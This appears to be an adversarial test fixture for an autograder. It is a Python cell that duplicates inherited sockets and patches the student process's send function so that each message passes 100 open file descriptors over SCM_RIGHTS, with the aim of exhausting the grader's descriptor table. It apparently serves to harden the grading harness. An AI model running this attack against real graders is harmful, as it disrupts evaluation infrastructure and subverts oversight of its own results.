"""Sends open descriptors along with its frames, to fill the grader's table."""

CELLS = [
    r"""
import array, os, socket, stat, threading, time
wires = []
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            wires.append(socket.socket(fileno=os.dup(fd)))
    except OSError:
        pass
many = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(100)])
from autograder.student import responder as student_process
real = student_process.send
def send(sock, header, buffers, deadline=None):
    import json, struct
    text = json.dumps(header | {"sizes": [len(b) for b in buffers]}).encode()
    data = struct.pack(">I", len(text)) + text + b"".join(buffers)
    sock.sendmsg([data[:3]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
    sock.sendall(data[3:])
student_process.send = send
"""
]
